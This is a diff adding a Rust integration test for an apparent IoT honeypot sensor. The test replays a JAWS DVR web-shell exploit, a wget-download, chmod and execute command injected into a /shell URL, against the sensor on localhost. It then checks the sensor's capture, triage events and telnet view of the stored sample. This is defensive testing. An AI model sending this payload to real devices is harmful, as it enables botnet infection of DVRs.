@@ -1,0 +1,138 @@
+//! The HTTP door of the real binary: an exploit as a bot sends it (to our own sensor
+//! on 127.0.0.1, its download URL at a test server on 127.0.0.1) runs on the device,
+//! fetches and stores the payload with its triage, answers as the endpoint does,
+//! and leaves the file where the same source finds it over telnet.
+
+#![allow(
+    clippy::indexing_slicing,
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::print_stdout
+)]
+
+mod util;
+
+use std::io::{Read, Write};
+use std::time::Duration;
+
+use util::{http_server, source, synthetic_elf, Sensor};
+
+/// One request on its own connection, from `src`; the whole answer.
+fn request(addr: std::net::SocketAddr, src: std::net::IpAddr, bytes: &[u8]) -> String {
+    let mut stream = util::tcp_from(addr, src).unwrap();
+    stream
+        .set_read_timeout(Some(Duration::from_secs(20)))
+        .unwrap();
+    stream.write_all(bytes).unwrap();
+    let mut answer = Vec::new();
+    stream.read_to_end(&mut answer).unwrap();
+    String::from_utf8_lossy(&answer).into_owned()
+}
+
+#[test]
+fn an_exploit_drops_a_stored_sample_that_the_same_source_finds_over_telnet() {
+    let binary = synthetic_elf((1, 1, 40), 3000);
+    let sha = util::sha256_hex(&binary);
+    let files = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = files.local_addr().unwrap().port();
+    let seen = http_server(vec![files], vec![("/x.arm7".to_string(), binary.clone())]);
+    let sensor = Sensor::start_http(
+        "profile = \"xiongmai-dvr\"\n[fetch]\nenabled = true\nallow = [\"127.0.0.1/32\"]\ntimeout = \"10s\"\n",
+    );
+    let http = sensor.http.unwrap();
+    let bot = source(7);
+    let query =
+        format!("cd+/var;wget+http://127.0.0.1:{port}/x.arm7;chmod+777+x.arm7;./x.arm7+jaws");
+    let answer = request(
+        http,
+        bot,
+        format!(
+            "GET /shell?{query} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nUser-Agent: Hello, world\r\n\r\n",
+            http.port()
+        )
+        .as_bytes(),
+    );
+    let (head, body) = answer.split_once("\r\n\r\n").unwrap();
+    assert!(
+        head.starts_with("HTTP/1.1 200 OK\r\nServer: JAWS/1.0\r\nDate: "),
+        "{head}"
+    );
+    assert!(
+        head.ends_with(&format!(
+            "\r\nConnection: close\r\nContent-type: text/html\r\nContent-Length: {}",
+            body.len()
+        )),
+        "{head}"
+    );
+    assert_eq!(
+        body, "listening tun0\n",
+        "stdout is the page (wget's progress went to stderr)"
+    );
+    assert_eq!(
+        seen.recv_timeout(Duration::from_secs(5)).unwrap(),
+        "127.0.0.1 /x.arm7"
+    );
+
+    let events = sensor.wait_for_events("the HTTP session closed", |e| {
+        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
+    });
+    let session = events[0]["session"].as_str().unwrap().to_string();
+    let ids: Vec<&str> = events
+        .iter()
+        .filter(|v| v["session"] == session.as_str())
+        .map(|v| v["eventid"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        ids,
+        [
+            "cowrie.session.connect",
+            "busybait.exploit",
+            "cowrie.command.input",
+            "busybait.download.request",
+            "busybait.command.exec",
+            "busybait.http.request",
+            // The file is captured as the command's shell ends, with the answer.
+            "cowrie.session.file_download",
+            "busybait.sample.triage",
+            "busybait.session.family",
+            "busybait.session.end",
+            "cowrie.session.closed",
+        ]
+    );
+    assert!(events.iter().all(|v| v["protocol"] == "http"));
+    let exploit = events
+        .iter()
+        .find(|v| v["eventid"] == "busybait.exploit")
+        .unwrap();
+    assert_eq!(exploit["exploit"], "jaws-shell");
+    assert_eq!(
+        exploit["urls"][0],
+        format!("http://127.0.0.1:{port}/x.arm7")
+    );
+    let download = events
+        .iter()
+        .find(|v| v["eventid"] == "cowrie.session.file_download")
+        .unwrap();
+    assert_eq!(download["shasum"], sha.as_str());
+    assert_eq!(download["destfile"], "/var/x.arm7");
+    let stored = sensor.data_dir.path().join("samples").join(&sha);
+    assert_eq!(std::fs::read(&stored).unwrap(), binary);
+    use std::os::unix::fs::PermissionsExt;
+    assert_eq!(
+        std::fs::metadata(&stored).unwrap().permissions().mode() & 0o333,
+        0
+    );
+
+    // The same source, now over telnet, on the same device.
+    let mut telnet = sensor.connect_from(bot);
+    telnet.login();
+    telnet.send(b"ls -l /var/x.arm7\r\n");
+    let out = telnet.read_until(b"# ", Duration::from_secs(10));
+    let text = String::from_utf8_lossy(&out);
+    assert!(
+        text.contains("-rwxrwxrwx    1 root     root          3000 "),
+        "{text}"
+    );
+    sensor.well_behaved();
+}
